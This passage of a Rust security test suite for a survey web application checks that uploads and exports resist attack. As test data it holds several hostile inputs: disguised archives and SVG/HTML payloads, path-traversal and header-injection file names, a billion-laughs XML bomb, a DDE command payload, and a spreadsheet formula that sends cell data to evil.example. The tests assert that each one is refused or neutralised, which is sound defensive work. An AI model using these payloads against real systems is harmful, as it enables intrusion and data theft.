//! Issue 12's features under attack, over real HTTP: disguised documents and hostile file
//! names in the section form, multipart bodies that flood or lie, files reached through the
//! wrong link or stored where they may not be, non-answers given where they are not allowed or
//! carrying formulas into the exports, and spreadsheets that are not what they claim. Every
//! test runs on SQLite and PostgreSQL.

use std::io::{Cursor, Write};

use diesel::prelude::*;

use coherence::db::{self, DbUrl};

use crate::helpers::{fixtures, Backend, Page, TestApp};
use crate::on_both_backends;

on_both_backends!(
    disguised_documents_are_refused_and_nothing_is_stored,
    hostile_file_names_are_made_safe_in_pages_and_headers,
    multipart_bodies_that_flood_or_lie_are_refused_whole,
    files_stay_with_their_response_and_their_link,
    non_answers_where_not_allowed_and_formulas_in_reasons,
    spreadsheets_that_are_not_what_they_claim_change_nothing,
    file_names_reach_the_exports_as_text,
    formulas_typed_into_the_workbook_never_clear_an_answer_silently,
);

const PDF: &[u8] = b"%PDF-1.7\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n";
const CSV: &[u8] = b"indicator,value\nremittances,12.5\n";
const BOUNDARY: &str = "----attack7MA4YWxkTrZu0gW";

async fn spawn(backend: Backend) -> TestApp {
    TestApp::spawn_with(backend, fixtures().join("evidence")).await
}

fn conn(app: &TestApp) -> db::PooledConn {
    let pool = db::connect(&DbUrl::parse(&app.database_url).unwrap(), 1).unwrap();
    pool.get().unwrap()
}

/// Rows in the `files` table: what an attack must not leave behind.
fn stored_files(app: &TestApp) -> i64 {
    use coherence::db::schema::files;
    let mut c = conn(app);
    files::table.count().get_result(&mut *c).unwrap()
}

/// A zip as an office suite (or an attacker) writes one.
fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = Cursor::new(Vec::new());
    {
        let mut zip = zip::ZipWriter::new(&mut out);
        let options = zip::write::SimpleFileOptions::default();
        for (name, bytes) in entries {
            zip.start_file(*name, options).unwrap();
            zip.write_all(bytes).unwrap();
        }
        zip.finish().unwrap();
    }
    out.into_inner()
}

/// One part of a hand-written multipart body: its raw header lines and content.
struct RawPart {
    headers: String,
    content: Vec<u8>,
}

fn text_part(name: &str, value: &str) -> RawPart {
    RawPart {
        headers: format!("Content-Disposition: form-data; name=\"{name}\""),
        content: value.as_bytes().to_vec(),
    }
}

/// A file part; `filename` goes into the header as given (quote it yourself if needed).
fn file_part(name: &str, filename: &str, content: &[u8]) -> RawPart {
    RawPart {
        headers: format!(
            "Content-Disposition: form-data; name=\"{name}\"; filename=\"{filename}\"\r\nContent-Type: application/octet-stream"
        ),
        content: content.to_vec(),
    }
}

fn raw_body(parts: &[RawPart], close: bool) -> Vec<u8> {
    let mut body = Vec::new();
    for p in parts {
        body.extend_from_slice(format!("--{BOUNDARY}\r\n{}\r\n\r\n", p.headers).as_bytes());
        body.extend_from_slice(&p.content);
        body.extend_from_slice(b"\r\n");
    }
    if close {
        body.extend_from_slice(format!("--{BOUNDARY}--\r\n").as_bytes());
    }
    body
}

async fn to_page(res: reqwest::Response) -> Page {
    let status = res.status().as_u16();
    let headers = res.headers().clone();
    let location = headers
        .get("location")
        .and_then(|v| v.to_str().ok())
        .map(String::from);
    Page {
        status,
        location,
        body: res.text().await.unwrap_or_default(),
        headers,
    }
}

async fn post_raw_multipart(app: &TestApp, path: &str, body: Vec<u8>) -> Page {
    let res = app
        .client
        .post(format!("{}{path}", app.address))
        .header(
            "content-type",
            format!("multipart/form-data; boundary={BOUNDARY}"),
        )
        .body(body)
        .send()
        .await
        .expect("POST");
    to_page(res).await
}

/// Open the section form and post `parts` after its CSRF token and version.
async fn post_section(app: &TestApp, link: &str, section: &str, parts: Vec<RawPart>) -> Page {
    let form = app.get(&format!("{link}/s/{section}")).await;
    assert_eq!(form.status, 200, "{}", form.body);
    let mut all = vec![
        text_part("_csrf", &form.hidden("_csrf")),
        text_part("_version", &form.hidden("_version")),
    ];
    all.extend(parts);
    post_raw_multipart(app, &format!("{link}/s/{section}"), raw_body(&all, true)).await
}

/// The ids and names of the files listed on a section page.
fn listed(page: &Page) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut rest = page.body.as_str();
    while let Some(i) = rest.find("<a href=\"../files/") {
        rest = &rest[i + "<a href=\"../files/".len()..];
        let id = rest[..rest.find('"').unwrap()].to_string();
        let start = rest.find('>').unwrap() + 1;
        let name = rest[start..start + rest[start..].find("</a>").unwrap()].to_string();
        out.push((id, name));
    }
    out
}

async fn download(app: &TestApp, path: &str) -> (u16, reqwest::header::HeaderMap, Vec<u8>) {
    let res = app
        .client
        .get(format!("{}{path}", app.address))
        .send()
        .await
        .unwrap();
    let status = res.status().as_u16();
    let headers = res.headers().clone();
    (status, headers, res.bytes().await.unwrap().to_vec())
}

fn wrong_type(name: &str, types: &str) -> String {
    format!("{name} is not an accepted document ({types}), or its name does not match its content")
}

async fn disguised_documents_are_refused_and_nothing_is_stored(backend: Backend) {
    let app = spawn(backend).await;
    let link = app.issue_token("evidence", "SWE", "Anna");
    let types = "<Types/>".as_bytes();
    // A "Word document" that is an archive carrying an executable beside a token `word/`.
    let docx_with_exe = zip_of(&[
        ("[Content_Types].xml", types),
        ("word/document.xml", b"<w:document/>"),
        ("payload.exe", b"MZ\x90\x00\x03\x00\x00\x00"),
    ]);
    // Only a `word/` folder, no document in it: not a Word document either.
    let docx_without_document = zip_of(&[
        ("[Content_Types].xml", types),
        ("word/evil.js", b"WScript.Echo(1)"),
    ]);
    let svg = b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".to_vec();
    let html_csv = b"<html><script>alert(document.cookie)</script></html>".to_vec();
    let accepted = "PDF, DOCX, CSV, PNG";
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("annex.docx", docx_with_exe),
        ("annex2.docx", docx_without_document),
        ("chart.png", svg.clone()),
        ("chart.svg", svg),
        ("figures.csv", html_csv),
        ("tool.exe", b"MZ\x90\x00".to_vec()),
        ("decree.pdf.html", PDF.to_vec()),
    ];
    for (n, (name, bytes)) in cases.into_iter().enumerate() {
        let staff = (n + 1).to_string();
        let page = post_section(
            &app,
            &link,
            "policy",
            vec![
                text_part("strategy", "yes"),
                text_part("staff", &staff),
                file_part("documents", name, &bytes),
            ],
        )
        .await;
        assert_eq!(page.status, 422, "{name}: {}", page.body);
        assert_eq!(
            page.field_error("documents"),
            Some(wrong_type(name, accepted)),
            "{name}"
        );
        // The rest of the section was kept, the file was not.
        let stored = app.get(&format!("{link}/s/policy")).await;
        assert_eq!(stored.field_value("staff").as_deref(), Some(staff.as_str()));
        assert!(listed(&stored).is_empty(), "{name} was stored");
        assert_eq!(stored_files(&app), 0, "{name} left a row");
    }

    // A macro workbook (.xlsm) renamed .xlsx, to a question taking every type.
    let xlsm = zip_of(&[
        ("[Content_Types].xml", b"<Types><Override ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.main+xml\"/></Types>"),
        ("xl/workbook.xml", b"<workbook/>"),
        ("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    ]);
    let page = post_section(
        &app,
        &link,
        "annex",
        vec![
            text_part("annex_note", "macros"),
            file_part("annex_files", "budget.xlsx", &xlsm),
        ],
    )
    .await;
    assert_eq!(page.status, 422, "{}", page.body);
    assert!(
        page.field_error("annex_files")
            .is_some_and(|e| e.starts_with("budget.xlsx is not an accepted document")),
        "{:?}",
        page.field_error("annex_files")
    );
    assert_eq!(stored_files(&app), 0);

    // A PDF that is also an HTML page: it is a PDF (its signature says so), and it is only
    // ever sent back as an attachment that no browser renders or sniffs.
    let polyglot = b"%PDF-1.4\n<html><script>alert(document.domain)</script></html>\n%%EOF\n";
    let page = post_section(
        &app,
        &link,
        "policy",
        vec![
            text_part("strategy", "yes"),
            file_part("documents", "polyglot.pdf", polyglot),
        ],
    )
    .await;
    assert_eq!(page.status, 303, "{}", page.body);
    let stored = app.get(&format!("{link}/s/policy")).await;
    let files = listed(&stored);
    assert_eq!(files.len(), 1);
    let (status, headers, body) = download(&app, &format!("{link}/files/{}", files[0].0)).await;
    assert_eq!(status, 200);
    assert_eq!(body, polyglot);
    assert_eq!(headers["content-type"], "application/pdf");
    assert!(headers["content-disposition"]
        .to_str()
        .unwrap()
        .starts_with("attachment; "));
    assert_eq!(headers["x-content-type-options"], "nosniff");
    assert_eq!(
        headers["content-security-policy"],
        "default-src 'none'; sandbox"
    );
    assert_eq!(stored_files(&app), 1);
}

async fn hostile_file_names_are_made_safe_in_pages_and_headers(backend: Backend) {
    let app = spawn(backend).await;
    let link = app.issue_token("evidence", "SWE", "Anna");
    let long = format!("{}.pdf", "a".repeat(496));
    // (name as sent in the part header, the name it is stored and shown under)
    let cases: Vec<(String, String)> = vec![
        ("../../../etc/cron.d/x.pdf".into(), "x.pdf".into()),
        // Backslashes escaped as a quoted header value needs them.
        (
            "..\\\\..\\\\windows\\\\win.ini.pdf".into(),
            "win.ini.pdf".into(),
        ),
        (
            "x\\\";filename*=UTF-8''evil.html;a=\\\".pdf".into(),
            "x__filename_=UTF-8''evil.html_a=_.pdf".into(),
        ),
        ("report\u{202e}fdp.pdf".into(), "reportfdp.pdf".into()),
        (
            "<img src=x onerror=alert(1)>.pdf".into(),
            "_img src=x onerror=alert(1)_.pdf".into(),
        ),
        (long.clone(), format!("{}.pdf", "a".repeat(140))),
        ("...pdf".into(), String::new()),
        ("....".into(), String::new()),
    ];
    for (sent, shown) in cases {
        let page = post_section(
            &app,
            &link,
            "policy",
            vec![
                text_part("strategy", "yes"),
                file_part("documents", &sent, PDF),
            ],
        )
        .await;
        if shown.is_empty() {
            // Nothing left that says what it is: refused, named "file".
            assert_eq!(page.status, 422, "{sent}: {}", page.body);
            let error = page.field_error("documents").unwrap_or_default();
            assert!(
                error.contains("is not an accepted document"),
                "{sent}: {error}"
            );
            assert!(!error.contains(".."), "{sent}: {error}");
            continue;
        }
        assert_eq!(page.status, 303, "{sent}: {}", page.body);
        let form = app.get(&format!("{link}/s/policy")).await;
        let files = listed(&form);
        assert_eq!(files.len(), 1, "{sent}: {}", form.body);
        let (id, name) = &files[0];
        let escaped = shown
            .replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
            .replace('\'', "&#x27;")
            .replace('=', "&#x3D;");
        assert_eq!(name, &escaped, "{sent}: {}", form.body);
        assert!(!form.body.contains("<img src=x"), "{sent}");
        let (status, headers, body) = download(&app, &format!("{link}/files/{id}")).await;
        assert_eq!(status, 200, "{sent}");
        assert_eq!(body, PDF);
        let disposition = headers["content-disposition"].to_str().unwrap();
        assert!(
            disposition.starts_with("attachment; filename=\""),
            "{disposition}"
        );
        // One plain name and one encoded name, nothing a client could read as a third.
        assert_eq!(disposition.matches("filename=").count(), 1, "{disposition}");
        assert_eq!(
            disposition.matches("filename*=").count(),
            1,
            "{disposition}"
        );
        assert_eq!(disposition.matches('"').count(), 2, "{disposition}");
        assert!(
            !disposition.contains(['\r', '\n', '/', '\\']),
            "{disposition}"
        );
        // Removed for the next name.
        let removed = post_section(
            &app,
            &link,
            "policy",
            vec![
                text_part("strategy", "yes"),
                text_part("documents.remove", id),
            ],
        )
        .await;
        assert_eq!(removed.status, 303, "{}", removed.body);
    }
    // A name with control characters and a line break in a quoted header value: the part
    // header is malformed or the characters are dropped; either way no header is injected.
    let page = post_section(
        &app,
        &link,
        "policy",
        vec![
            text_part("strategy", "yes"),
            file_part("documents", "a\u{7}b\u{1b}[31mc.pdf", PDF),
        ],
    )
    .await;
    if page.status == 303 {
        let form = app.get(&format!("{link}/s/policy")).await;
        assert_eq!(listed(&form)[0].1, "abc.pdf");
    } else {
        assert_eq!(page.status, 400, "{}", page.body);
    }
}

async fn multipart_bodies_that_flood_or_lie_are_refused_whole(backend: Backend) {
    let app = spawn(backend).await;
    let link = app.issue_token("evidence", "SWE", "Anna");
    let ok = app
        .save_section(&link, "policy", &[("strategy", "yes"), ("staff", "5")])
        .await;
    assert_eq!(ok.status, 303, "{}", ok.body);

    // Thousands of tiny parts.
    let many: Vec<RawPart> = (0..2500).map(|i| text_part("x", &i.to_string())).collect();
    let page = post_section(&app, &link, "policy", many).await;
    assert_eq!(page.status, 400, "{}", page.body);
    kept(&app, &link).await;

    // The same file field a hundred times: too many files, none stored, the rest kept.
    let mut parts = vec![text_part("strategy", "yes"), text_part("staff", "6")];
    parts.extend((0..100).map(|i| file_part("documents", &format!("f{i}.csv"), CSV)));
    let page = post_section(&app, &link, "policy", parts).await;
    assert_eq!(page.status, 422, "{}", page.body);
    assert_eq!(
        page.field_error("documents").as_deref(),
        Some("Attach at most 2 files")
    );
    assert_eq!(stored_files(&app), 0);
    app.save_section(&link, "policy", &[("strategy", "yes"), ("staff", "5")])
        .await;

    // A huge text field inside a multipart post keeps the small limit of text.
    let big = "7".repeat(300 * 1024);
    let page = post_section(&app, &link, "policy", vec![text_part("staff", &big)]).await;
    assert_eq!(page.status, 413, "{}", page.body);
    kept(&app, &link).await;
    // Many text fields each under the limit, together over it.
    let chunk = "y".repeat(200 * 1024);
    let page = post_section(
        &app,
        &link,
        "policy",
        vec![text_part("a", &chunk), text_part("b", &chunk)],
    )
    .await;
    assert_eq!(page.status, 413, "{}", page.body);
    // A file part whose field is no file question carries a small limit too.
    let page = post_section(
        &app,
        &link,
        "policy",
        vec![file_part("staff", "x.pdf", &vec![b'%'; 600 * 1024])],
    )
    .await;
    assert_eq!(page.status, 413, "{}", page.body);
    kept(&app, &link).await;

    // A body that never closes its last part.
    let form = app.get(&format!("{link}/s/policy")).await;
    let parts = vec![
        text_part("_csrf", &form.hidden("_csrf")),
        text_part("_version", &form.hidden("_version")),
        text_part("staff", "9"),
        file_part("documents", "a.pdf", PDF),
    ];
    let mut body = raw_body(&parts, false);
    body.truncate(body.len() - 10);
    let page = post_raw_multipart(&app, &format!("{link}/s/policy"), body).await;
    assert_eq!(page.status, 400, "{}", page.body);
    kept(&app, &link).await;

    // A Content-Length larger than the section's budget is refused before it is read.
    let form = app.get(&format!("{link}/s/policy")).await;
    let body = raw_body(
        &[
            text_part("_csrf", &form.hidden("_csrf")),
            text_part("_version", &form.hidden("_version")),
            file_part("documents", "big.pdf", &vec![b'x'; 3 * 1024 * 1024]),
        ],
        true,
    );
    let page = post_raw_multipart(&app, &format!("{link}/s/policy"), body).await;
    assert_eq!(page.status, 413);

    // A section id no survey has a file question in keeps the small limit, file or not.
    let body = raw_body(
        &[
            text_part("_csrf", &form.hidden("_csrf")),
            file_part("documents", "big.pdf", &vec![b'%'; 1024 * 1024]),
        ],
        true,
    );
    let page = post_raw_multipart(&app, &format!("{link}/s/nowhere"), body).await;
    assert_eq!(page.status, 413, "{}", page.body);
    // And so does every other route, whatever the body's type.
    for route in ["submit", "recall", "questionnaire-not-a-route"] {
        let body = raw_body(
            &[
                text_part("_csrf", &form.hidden("_csrf")),
                file_part("documents", "big.pdf", &vec![b'%'; 1024 * 1024]),
            ],
            true,
        );
        let page = post_raw_multipart(&app, &format!("{link}/{route}"), body).await;
        assert!(
            page.status == 413 || page.status == 404 || page.status == 405,
            "{route}: {} {}",
            page.status,
            page.body
        );
    }
    // A file before the form's token: refused before the file is held, even with the token
    // after it; and a made-up link's post never gets as far as its file.
    let form = app.get(&format!("{link}/s/policy")).await;
    let body = raw_body(
        &[
            file_part("documents", "first.pdf", PDF),
            text_part("_csrf", &form.hidden("_csrf")),
            text_part("_version", &form.hidden("_version")),
            text_part("staff", "8"),
        ],
        true,
    );
    let page = post_raw_multipart(&app, &format!("{link}/s/policy"), body).await;
    assert_eq!(page.status, 403, "{}", page.body);
    kept(&app, &link).await;
    let body = raw_body(
        &[
            text_part("_csrf", &form.hidden("_csrf")),
            file_part("documents", "big.pdf", &vec![b'%'; 1024 * 1024]),
        ],
        true,
    );
    // (The link is looked up before the body is read: unknown, whatever the body holds.)
    let page = post_raw_multipart(&app, "/r/not-a-link-at-all/s/policy", body).await;
    assert_eq!(page.status, 404, "{}", page.body);
    // A multipart post without the CSRF token stores nothing, even a valid file.
    let body = raw_body(
        &[
            text_part("staff", "8"),
            file_part("documents", "a.pdf", PDF),
        ],
        true,
    );
    let page = post_raw_multipart(&app, &format!("{link}/s/policy"), body).await;
    assert_eq!(page.status, 403, "{}", page.body);
    kept(&app, &link).await;
    assert_eq!(stored_files(&app), 0);
}

/// The section as saved before an attack: five staff, no file.
async fn kept(app: &TestApp, link: &str) {
    let stored = app.get(&format!("{link}/s/policy")).await;
    assert_eq!(stored.field_value("staff").as_deref(), Some("5"));
    assert!(listed(&stored).is_empty());
}

async fn files_stay_with_their_response_and_their_link(backend: Backend) {
    let app = spawn(backend).await;
    let sweden = app.issue_token("evidence", "SWE", "Anna");
    let norway = app.issue_token("evidence", "NOR", "Kari");
    for link in [&sweden, &norway] {
        let page = post_section(
            &app,
            link,
            "policy",
            vec![
                text_part("strategy", "yes"),
                file_part("documents", "plan.pdf", PDF),
            ],
        )
        .await;
        assert_eq!(page.status, 303, "{}", page.body);
    }
    let swedish = listed(&app.get(&format!("{sweden}/s/policy")).await)[0]
        .0
        .clone();
    let norwegian = listed(&app.get(&format!("{norway}/s/policy")).await)[0]
        .0
        .clone();
    assert_eq!(stored_files(&app), 2);

    // Norway's official ticks "remove" with Sweden's file id: nothing of Sweden's changes.
    let page = post_section(
        &app,
        &norway,
        "policy",
        vec![
            text_part("strategy", "yes"),
            text_part("documents.remove", &swedish),
            text_part("annex_files.remove", &swedish),
        ],
    )
    .await;
    assert_eq!(page.status, 303, "{}", page.body);
    assert_eq!(stored_files(&app), 2);
    assert_eq!(
        download(&app, &format!("{sweden}/files/{swedish}")).await.0,
        200
    );
    // Nor through another section's file question of its own response.
    let page = post_section(
        &app,
        &norway,
        "annex",
        vec![text_part("annex_files.remove", &norwegian)],
    )
    .await;
    assert_eq!(page.status, 303, "{}", page.body);
    assert_eq!(
        download(&app, &format!("{norway}/files/{norwegian}"))
            .await
            .0,
        200
    );
    // Downloads: Norway's link cannot fetch Sweden's file, nor the owner's route for
    // another country fetch it.
    assert_eq!(
        download(&app, &format!("{norway}/files/{swedish}")).await.0,
        404
    );

    // A non-answer posted for a file question is not one: nothing but files is stored there.
    let page = post_section(
        &app,
        &norway,
        "policy",
        vec![
            text_part("strategy", "yes"),
            text_part("documents.escape", "not_known"),
            text_part("documents.reason", "lost"),
        ],
    )
    .await;
    assert_eq!(page.status, 303, "{}", page.body);
    let form = app.get(&format!("{norway}/s/policy")).await;
    assert!(!form.escape_checked("documents", "not_known"));
    assert_eq!(listed(&form).len(), 1);
    // A contributor of the annex posts a file to the policy section: refused, nothing stored.
    let contributor = app.issue_token_with(&[
        "--survey",
        "evidence",
        "--country",
        "NOR",
        "--role",
        "contributor",
        "--section",
        "annex",
    ]);
    let annex = app.get(&format!("{contributor}/s/annex")).await;
    assert_eq!(annex.status, 200, "{}", annex.body);
    let body = raw_body(
        &[
            text_part("_csrf", &annex.hidden("_csrf")),
            text_part("_version", "0"),
            text_part("strategy", "no"),
            file_part("documents", "sneaked.pdf", PDF),
            text_part("documents.remove", &norwegian),
        ],
        true,
    );
    let page = post_raw_multipart(&app, &format!("{contributor}/s/policy"), body).await;
    assert_eq!(page.status, 404, "{}", page.body);
    assert_eq!(stored_files(&app), 2);
    assert_eq!(
        download(&app, &format!("{norway}/files/{norwegian}"))
            .await
            .0,
        200
    );

    // Submitted: an upload is refused and leaves no row behind.
    let submitted = app.submit(&sweden).await;
    assert_eq!(submitted.status, 303, "{}", submitted.body);
    let form = app.get(&format!("{sweden}/s/policy")).await;
    let body = raw_body(
        &[
            text_part("_csrf", &form.hidden("_csrf")),
            text_part("_version", &form.hidden("_version")),
            text_part("strategy", "yes"),
            file_part("documents", "late.pdf", PDF),
            text_part("documents.remove", &swedish),
        ],
        true,
    );
    let page = post_raw_multipart(&app, &format!("{sweden}/s/policy"), body).await;
    assert!(
        page.status == 409 || page.status == 403 || page.status == 422,
        "{} {}",
        page.status,
        page.body
    );
    assert_eq!(stored_files(&app), 2);
    assert_eq!(
        download(&app, &format!("{sweden}/files/{swedish}")).await.0,
        200
    );

    // A revoked link downloads nothing.
    let out = app.cli(&["token", "revoke", "--link", &sweden], None);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let (status, _, body) = download(&app, &format!("{sweden}/files/{swedish}")).await;
    assert_ne!(status, 200);
    assert!(!body.windows(PDF.len()).any(|w| w == PDF));

    // The owner of another survey: refused, even naming the right country.
    app.add_user(
        "owner@other.example.org",
        "another long passphrase",
        "owner",
        &["other"],
    );
    let owner = app.clone_with_new_client();
    let res = owner
        .login("owner@other.example.org", "another long passphrase")
        .await;
    assert_eq!(res.status, 303, "{}", res.body);
    let (status, _, body) = download(
        &owner,
        &format!("/admin/surveys/evidence/countries/SWE/files/{swedish}"),
    )
    .await;
    assert_eq!(status, 403);
    assert!(!body.windows(PDF.len()).any(|w| w == PDF));
    let (status, _, _) = download(
        &owner,
        &format!("/admin/surveys/other/countries/SWE/files/{swedish}"),
    )
    .await;
    assert_eq!(
        status, 404,
        "a file of another survey through the owner's own"
    );
}

async fn non_answers_where_not_allowed_and_formulas_in_reasons(backend: Backend) {
    let app = TestApp::spawn_with(backend, fixtures().join("escapes")).await;
    let link = app.issue_token("escapes", "SWE", "Anna");
    // `name` takes no non-answer; `staff` only "not known"; made-up codes and an item
    // key smuggled as a code are refused, not stored.
    for (field, code) in [
        ("name.escape", "not_known"),
        ("staff.escape", "not_applicable"),
        ("staff.escape", "#not_known"),
        ("staff.escape", "other"),
        ("staff.escape", "NOT_KNOWN "),
    ] {
        let page = app
            .save_section(
                &link,
                "figures",
                &[(field, code), ("name", "kept"), ("staff", "3")],
            )
            .await;
        assert_eq!(page.status, 422, "{field}={code}: {}", page.body);
        let question = field.trim_end_matches(".escape");
        assert!(
            page.field_error(question).is_some(),
            "{field}={code}: {}",
            page.body
        );
    }
    // A matrix row posted as an escape item, and the raw item key posted as a field, are not
    // non-answers.
    let page = app
        .save_section(
            &link,
            "figures",
            &[
                ("rating.#not_known", "x"),
                ("staff.#not_known", "x"),
                ("staff", "3"),
            ],
        )
        .await;
    assert!(page.status == 303 || page.status == 422, "{}", page.body);

    // A reason past its limit: refused with its message; a 1 MB one is refused whole.
    let long = "r".repeat(5000);
    let page = app
        .save_section(
            &link,
            "figures",
            &[("staff.escape", "not_known"), ("staff.reason", &long)],
        )
        .await;
    assert_eq!(page.status, 422, "{}", page.body);
    let huge = "r".repeat(1024 * 1024);
    let page = app
        .save_section(
            &link,
            "figures",
            &[("staff.escape", "not_known"), ("staff.reason", &huge)],
        )
        .await;
    assert_eq!(page.status, 413);

    // Reasons carrying formulas and markup reach the exports as text.
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    let page = app
        .save_section(
            &link,
            "figures",
            &[
                ("staff.escape", "not_known"),
                ("staff.reason", formula),
                ("budget.escape", "not_applicable"),
                ("budget.reason", "<script>alert(1)</script>"),
                ("active.escape", "not_applicable"),
                ("active.reason", "@SUM(1+1)*cmd|' /C calc'!A0"),
                ("rating.r1", "s1"),
                ("rating.r2", "s2"),
            ],
        )
        .await;
    assert_eq!(page.status, 303, "{}", page.body);
    let review = app.get(&format!("{link}/review")).await;
    assert!(!review.body.contains("<script>alert(1)"), "{}", review.body);
    assert!(review.body.contains("&lt;script&gt;alert(1)"));
    let submitted = app.submit(&link).await;
    assert_eq!(submitted.status, 303, "{}", submitted.body);
    app.add_user(
        "admin@gfmd.example.org",
        "a long admin passphrase",
        "admin",
        &[],
    );
    let res = app
        .login("admin@gfmd.example.org", "a long admin passphrase")
        .await;
    assert_eq!(res.status, 303);
    let csv = app.get("/admin/surveys/escapes/export.csv").await;
    assert_eq!(csv.status, 200);
    let mut reader = csv::Reader::from_reader(csv.body.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let row: Vec<String> = reader
        .records()
        .next()
        .unwrap()
        .unwrap()
        .iter()
        .map(String::from)
        .collect();
    let col = |name: &str| &row[header.iter().position(|h| h == name).unwrap()];
    for (column, text) in [
        ("staff.reason", formula),
        ("active.reason", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ] {
        let cell = col(column);
        assert!(
            !cell.starts_with(['=', '+', '-', '@']),
            "{column} reaches the CSV as a formula: {cell}"
        );
        assert!(cell.ends_with(text), "{column}: {cell}");
    }
    assert_eq!(col("budget.reason"), "<script>alert(1)</script>");
    // The spreadsheet export stores them as text cells, never formulas.
    let xlsx = app
        .client
        .get(format!("{}/admin/surveys/escapes/export.xlsx", app.address))
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap()
        .to_vec();
    let mut zip = zip::ZipArchive::new(Cursor::new(xlsx)).unwrap();
    for i in 0..zip.len() {
        let mut entry = zip.by_index(i).unwrap();
        if entry.name().starts_with("xl/worksheets/") {
            let mut xml = String::new();
            std::io::Read::read_to_string(&mut entry, &mut xml).unwrap();
            assert!(!xml.contains("<f>"), "a formula in {}", entry.name());
        }
    }
}

/// The workbook a link downloads.
async fn workbook(app: &TestApp, link: &str) -> Vec<u8> {
    let res = app
        .client
        .get(format!("{}{link}/questionnaire.xlsx", app.address))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status().as_u16(), 200);
    res.bytes().await.unwrap().to_vec()
}

async fn upload_workbook(app: &TestApp, link: &str, bytes: Vec<u8>) -> Page {
    let overview = app.get(link).await;
    assert_eq!(overview.status, 200, "{}", overview.body);
    let body = raw_body(
        &[
            text_part("_csrf", &overview.hidden("_csrf")),
            file_part("file", "questionnaire.xlsx", &bytes),
        ],
        true,
    );
    post_raw_multipart(app, &format!("{link}/questionnaire"), body).await
}

/// The workbook with `entries` replaced or added (name, content), others copied as they are.
fn rezip(bytes: &[u8], entries: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes.to_vec())).unwrap();
    let mut out = Cursor::new(Vec::new());
    {
        let mut w = zip::ZipWriter::new(&mut out);
        let options = zip::write::SimpleFileOptions::default();
        for i in 0..zip.len() {
            let mut entry = zip.by_index(i).unwrap();
            let name = entry.name().to_string();
            if entries.iter().any(|(n, _)| *n == name) {
                continue;
            }
            let mut data = Vec::new();
            std::io::Read::read_to_end(&mut entry, &mut data).unwrap();
            w.start_file(name, options).unwrap();
            w.write_all(&data).unwrap();
        }
        for (name, data) in entries {
            w.start_file(*name, options).unwrap();
            w.write_all(data).unwrap();
        }
        w.finish().unwrap();
    }
    out.into_inner()
}

fn saved_count(app: &TestApp) -> usize {
    let out = app.cli(&["audit", "export", "fixture"], None);
    assert!(out.status.success());
    String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .filter(|l| l.contains("\"kind\":\"saved\""))
        .count()
}

async fn spreadsheets_that_are_not_what_they_claim_change_nothing(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let coordinator = app.issue_token("fixture", "SWE", "Anna Berg");
    let saved = app
        .save_section(&coordinator, "basics", &[("name", "Anna")])
        .await;
    assert_eq!(saved.status, 303, "{}", saved.body);
    let before = saved_count(&app);
    let ours = workbook(&app, &coordinator).await;

    // A contributor of one section uploads the coordinator's workbook (same country, same
    // organisation, every section): refused, it holds sections the link does not answer.
    let contributor = app.issue_token_with(&[
        "--survey",
        "fixture",
        "--country",
        "SWE",
        "--role",
        "contributor",
        "--section",
        "plans",
    ]);
    let page = upload_workbook(&app, &contributor, ours.clone()).await;
    assert_eq!(page.status, 422, "{}", page.body);
    assert!(
        page.body
            .contains("This workbook holds sections your link does not answer."),
        "{}",
        page.body
    );

    // The file before the form's token: refused before the file is read, nothing saved; and a
    // made-up link's upload never gets as far as its file.
    let overview = app.get(&coordinator).await;
    let body = raw_body(
        &[
            file_part("file", "questionnaire.xlsx", &ours),
            text_part("_csrf", &overview.hidden("_csrf")),
        ],
        true,
    );
    let page = post_raw_multipart(&app, &format!("{coordinator}/questionnaire"), body).await;
    assert_eq!(page.status, 403, "{}", page.body);
    let body = raw_body(
        &[
            text_part("_csrf", &overview.hidden("_csrf")),
            file_part("file", "questionnaire.xlsx", &ours),
        ],
        true,
    );
    let page = post_raw_multipart(&app, "/r/not-a-link-at-all/questionnaire", body).await;
    assert!(page.status == 403 || page.status == 404, "{}", page.status);

    // A workbook of another organisation of the same country.
    let labour = app.issue_unit_token("institutions", "PHL", "Ministry of Labour");
    let bank = app.issue_unit_token("institutions", "PHL", "Central Bank");
    let theirs = workbook(&app, &labour).await;
    let page = upload_workbook(&app, &bank, theirs).await;
    assert_eq!(page.status, 422, "{}", page.body);
    assert!(
        page.body
            .contains("This workbook is the questionnaire of another country or organisation."),
        "{}",
        page.body
    );

    // Billion laughs inside a sheet's XML.
    let mut laughs = String::from("<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">");
    laughs.push_str("<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">");
    for i in 2..10 {
        let prev = format!("&lol{};", i - 1);
        laughs.push_str(&format!("<!ENTITY lol{i} \"{}\">", prev.repeat(10)));
    }
    laughs.push_str("]><worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>");
    let names: Vec<String> = zip::ZipArchive::new(Cursor::new(ours.clone()))
        .unwrap()
        .file_names()
        .map(String::from)
        .collect();
    let sheets: Vec<&String> = names
        .iter()
        .filter(|n| n.starts_with("xl/worksheets/sheet"))
        .collect();
    assert!(sheets.len() >= 3, "{names:?}");
    let mut cases: Vec<(&str, Vec<u8>, &str)> = Vec::new();
    for sheet in &sheets {
        cases.push((
            "entity expansion",
